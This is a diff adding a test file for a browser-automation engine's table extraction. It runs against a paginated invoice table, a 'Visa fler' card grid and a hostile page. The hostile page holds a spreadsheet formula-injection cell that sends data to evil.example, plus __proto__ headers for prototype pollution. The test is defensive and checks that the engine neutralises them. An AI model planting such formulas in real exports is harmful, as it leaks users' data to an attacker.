@@ -1,0 +1,98 @@
+// extract_table on local pages: a paginated table, a card grid with "Visa fler", and a hostile page (a formula
+// cell, a header named __proto__, 100,000 rows against a cap of 50).
+import { expect, test } from 'vitest';
+import { useEngine } from './test/harness.ts';
+
+const t = useEngine();
+
+test('a table over three pages (next-page link), columns from its header; a card grid with "Visa fler" and a selector per column', async () => {
+  // Three pages of four invoices; the last page's "Nästa" is disabled.
+  const invoices = Array.from({ length: 10 }, (_, i) => [`F-${1001 + i}`, i % 2 ? 'Dahl' : 'Ahlsell', `${(i + 1) * 100},50`]);
+  t.server.page(
+    '/fakturor',
+    `<table id="lista"><thead><tr><th>Nummer</th><th>Leverantör</th><th>Belopp</th></tr></thead><tbody></tbody></table>
+     <button id="nasta">Nästa</button>
+     <script>
+       const rows = ${JSON.stringify(invoices)};
+       let page = 0;
+       function show() {
+         document.querySelector('tbody').innerHTML = rows.slice(page * 4, page * 4 + 4).map((r) => '<tr>' + r.map((c) => '<td>' + c + '</td>').join('') + '</tr>').join('');
+         document.getElementById('nasta').disabled = page * 4 + 4 >= rows.length;
+       }
+       document.getElementById('nasta').onclick = () => { page++; setTimeout(show, 150); };
+       show();
+     </script>`,
+  );
+  t.server.page(
+    '/kort',
+    `<div id="grid"></div><button id="mer">Visa fler</button>
+     <script>
+       let shown = 0;
+       function more() {
+         for (let i = 0; i < 3 && shown < 7; i++, shown++) {
+           const card = document.createElement('article');
+           card.innerHTML = '<h3>Hyresgäst ' + (shown + 1) + '</h3><a href="/lgh/' + (100 + shown) + '">Lägenhet</a><span class="hyra">' + (5000 + shown) + ' kr</span>';
+           document.getElementById('grid').append(card);
+         }
+         if (shown >= 7) document.getElementById('mer').remove();
+       }
+       document.getElementById('mer').onclick = () => setTimeout(more, 100);
+       more();
+     </script>`,
+  );
+  const { outcome, ends, logText } = await t.run([
+    { type: 'navigate', url: t.server.url('/fakturor') },
+    { type: 'extract_table', selectors: ['#lista'], variable: 'fakturor', next: ['#nasta'] },
+    { type: 'navigate', url: t.server.url('/kort') },
+    {
+      type: 'extract_table',
+      selectors: ['#grid'],
+      rowSelector: 'article',
+      variable: 'hyresgaster',
+      columns: [
+        { name: 'Namn', selector: 'h3' },
+        { name: 'Länk', selector: 'a', attribute: 'href' },
+        { name: 'Hyra', selector: '.hyra' },
+      ],
+      next: ['text/Visa fler'],
+      paging: 'more',
+    },
+  ]);
+  expect(outcome.status, `${outcome.errorMessage} ${logText}`).toBe('completed');
+  expect(ends[1]!.table).toEqual({ variable: 'fakturor', columns: ['Nummer', 'Leverantör', 'Belopp'], rows: invoices, pages: 3, capped: false });
+  expect(ends[1]!.extracted).toEqual({ fakturor: '10' });
+  expect(ends[3]!.table).toMatchObject({ columns: ['Namn', 'Länk', 'Hyra'], pages: 3, capped: false });
+  expect(ends[3]!.table!.rows).toEqual(Array.from({ length: 7 }, (_, i) => [`Hyresgäst ${i + 1}`, `/lgh/${100 + i}`, `${5000 + i} kr`]));
+});
+
+test('a hostile page: a formula cell stays text, a header named __proto__ is a column, 100,000 rows stop at the cap', async () => {
+  t.server.page(
+    '/fientlig',
+    `<table id="t"><tr><th>__proto__</th><th>constructor</th><th></th><th>__proto__</th></tr></table>
+     <button id="mer">Visa fler</button>
+     <script>
+       const body = document.createElement('tbody');
+       body.innerHTML = '<tr><td>=HYPERLINK("http://evil.example/?x="&A1,"Klicka")</td><td>@SUM(1)</td><td>x</td><td>y</td></tr>'
+         + Array.from({ length: 100000 }, (_, i) => '<tr><td>' + i + '</td></tr>').join('');
+       document.getElementById('t').append(body);
+       document.getElementById('mer').onclick = () => { window.clicked = true; };
+     </script>`,
+  );
+  const { outcome, ends, page, logText } = await t.run(
+    [
+      { type: 'navigate', url: t.server.url('/fientlig') },
+      { type: 'extract_table', selectors: ['#t'], variable: 'rader', maxRows: 50, next: ['#mer'], paging: 'more' },
+    ],
+    { defaultTimeoutMs: 30_000 },
+  );
+  expect(outcome.status, logText).toBe('completed');
+  const table = ends[1]!.table!;
+  expect(table.columns).toEqual(['__proto__', 'constructor', 'Kolumn 3', '__proto__ (2)']);
+  expect(table.rows).toHaveLength(50);
+  expect(table.rows[0]).toEqual(['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', '@SUM(1)', 'x', 'y']);
+  expect(table.rows[49]).toEqual(['48', '', '', '']);
+  expect(table.capped).toBe(true);
+  expect(Object.getPrototypeOf({})).toBe(Object.prototype);
+  expect(await page.evaluate('window.clicked ?? false')).toBe(false); // the cap was reached: nothing more was asked for
+  expect(logText).toContain('the cap of 50 rows was reached');
+});
